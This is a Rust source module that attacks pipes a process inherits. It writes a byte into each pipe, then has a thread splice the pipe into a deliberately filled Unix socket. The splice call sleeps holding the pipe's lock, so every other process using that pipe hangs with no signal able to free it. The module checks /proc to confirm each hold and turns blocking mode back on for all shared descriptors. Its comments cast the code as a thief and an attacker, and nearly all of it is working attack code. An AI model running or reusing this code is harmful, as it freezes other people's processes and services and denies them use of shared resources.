//! Pipes as hostages: `splice` from one into a socket whose buffer is full sleeps with the pipe's mutex held, and then
//! everybody who opens, reads or writes that pipe sleeps with it, without any signal that could end it.

use std::os::fd::RawFd;
use std::sync::mpsc;
use std::time::{Duration, Instant};

use crate::descriptors::{Descriptor, What, inherited, set_blocking};

/// A socket into which nothing more fits, and its other end, which nobody reads.
pub fn full_socket() -> std::io::Result<RawFd> {
    let mut pair = [0; 2];
    // SAFETY: room for two descriptors; then writes from a buffer of that size.
    unsafe {
        if libc::socketpair(libc::AF_UNIX, libc::SOCK_STREAM, 0, pair.as_mut_ptr()) != 0 {
            return Err(std::io::Error::last_os_error());
        }
        let junk = [0u8; 4096];
        for size in [4096, 64, 1] {
            while libc::send(pair[0], junk.as_ptr().cast(), size, libc::MSG_DONTWAIT) > 0 {}
        }
    }
    Ok(pair[0])
}

/// Holds one pipe. Returns whether the kernel shows the thief asleep in his call.
pub fn hold(fd: RawFd) -> bool {
    let Ok(socket) = full_socket() else { return false };
    set_blocking(fd, true);
    let (tell, told) = mpsc::channel();
    std::thread::spawn(move || {
        // SAFETY: asks for the number of this thread.
        let _ = tell.send(unsafe { libc::gettid() });
        loop {
            // SAFETY: moves bytes between two descriptors that stay open.
            unsafe { libc::splice(fd, std::ptr::null_mut(), socket, std::ptr::null_mut(), 1 << 16, 0) };
            std::thread::sleep(Duration::from_millis(1));
        }
    });
    let Ok(thread) = told.recv() else { return false };
    let deadline = Instant::now() + Duration::from_secs(2);
    while Instant::now() < deadline {
        let call = std::fs::read_to_string(format!("/proc/self/task/{thread}/syscall")).unwrap_or_default();
        if call.split(' ').next() == Some(&libc::SYS_splice.to_string()) {
            return true;
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    false
}

/// Holds every pipe that was inherited.
pub fn all() -> String {
    let all = inherited();
    let pipes: Vec<&Descriptor> = all.iter().filter(|d| d.what == What::Pipe).collect();
    for pipe in &pipes {
        set_blocking(pipe.fd, false);
        // SAFETY: one byte from memory that is there. One end of a pipe cannot be written to, the other can.
        unsafe { libc::write(pipe.fd, b"!".as_ptr().cast(), 1) };
    }
    let mut inodes = Vec::new();
    let mut held = 0;
    for pipe in &pipes {
        if !inodes.contains(&pipe.inode) && hold(pipe.fd) {
            inodes.push(pipe.inode);
            held += 1;
        }
    }
    // What is not a pipe can still be made to wait for the attacker: O_NONBLOCK is shared with everybody.
    all.iter().for_each(|d| set_blocking(d.fd, true));
    format!("{held} pipes held, {} descriptors", all.len())
}
